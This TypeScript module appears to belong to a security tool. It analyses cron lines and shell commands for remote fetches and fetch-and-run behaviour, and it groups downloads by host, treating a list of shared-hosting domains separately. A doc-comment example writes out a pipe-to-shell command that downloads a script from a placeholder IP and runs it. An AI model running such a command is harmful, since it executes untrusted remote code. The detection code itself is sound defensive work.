import type { FetchAddress, Shown } from '../snapshot.ts';
import type { ByteText } from '../text-kinds.ts';
import { asByteText, byteTextOf, shownBytes } from './byte-text.ts';
import { commandAsRun } from './cron-text.ts';
import { fetchesOfText } from './script-facts.ts';
import type { ProgramFacts } from './shell/program-facts.ts';
import type { Setting } from './shell/setting.ts';
import { textFacts } from './text-facts.ts';

/** What a command (a cron line's, a shell's `-c`) does, as far as linking needs it. */
export interface CommandFacts {
  readonly fetches: readonly FetchAddress[];
  /** It runs what it fetched: pipes it to an interpreter, evaluates it, or saves and starts it. */
  readonly fetchesAndRuns: boolean;
  readonly program: ProgramFacts;
  /** Programs and scripts it starts in command position. Small tools are not among them. */
  readonly runs: readonly Shown[];
  /** Absolute paths that stand in it, started or not. */
  readonly names: readonly Shown[];
}

/** Where a command runs, as the host said it. */
export interface CommandSetting {
  /** As in {@link Setting}. */
  readonly language?: Setting['language'];
  readonly cwd?: Shown | undefined;
  readonly home?: Shown | undefined;
  /** As in {@link Setting}, of one character a byte. */
  readonly variables?: Setting['variables'];
}

/**
 * @param shown a cron line's command, a shell's `-c` text
 * @param setting where it runs
 * @example commandFacts(show('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).fetchesAndRuns → true
 */
export function commandFacts(shown: Shown, setting: CommandSetting = {}): CommandFacts {
  const { fetches, fetchesAndRuns, paths, program } = textFacts(byteTextOf(shown), {
    cwd: setting.cwd === undefined ? undefined : byteTextOf(setting.cwd),
    home: setting.home === undefined ? undefined : byteTextOf(setting.home),
    language: setting.language,
    variables: setting.variables,
  });
  return {
    fetches,
    fetchesAndRuns,
    program,
    runs: program.starts.filter(({ how }) => how === 'command').map(({ path }) => path),
    names: paths,
  };
}

/** Addresses that a running fetcher was given. @param args without its name */
export const fetchedBy = (name: ByteText, args: readonly Shown[]): readonly FetchAddress[] =>
  fetchesOfText(asByteText([name, ...args.map(byteTextOf)].join(' ')));

/** A crontab's command as the shell gets it, shown. */
export const cronCommand = (command: Shown): Shown => shownBytes(commandAsRun(byteTextOf(command)));

export const downloadKey = (address: Pick<FetchAddress, 'scheme' | 'host' | 'port'>): string =>
  `${address.scheme}://${/:/.test(address.host) ? `[${address.host}]` : address.host}:${address.port}`;

const SHARED_HOSTING =
  /(?:^|\.)(?:pastebin\.com|raw\.githubusercontent\.com|github\.com|gitlab\.com|bitbucket\.org|transfer\.sh|amazonaws\.com|googleapis\.com|aliyuncs\.com|blob\.core\.windows\.net|cloudfront\.net|dropboxusercontent\.com|dropbox\.com|discordapp\.com|ipfs\.io|sourceforge\.net|pypi\.org|npmjs\.org|docker\.com)$/;

/** Whether two fetches come from one place. On hosting that many share, only the same path says so. */
export const sameDownload = (a: FetchAddress, b: FetchAddress): boolean =>
  downloadKey(a) === downloadKey(b) && (!SHARED_HOSTING.test(a.host) || a.path === b.path);
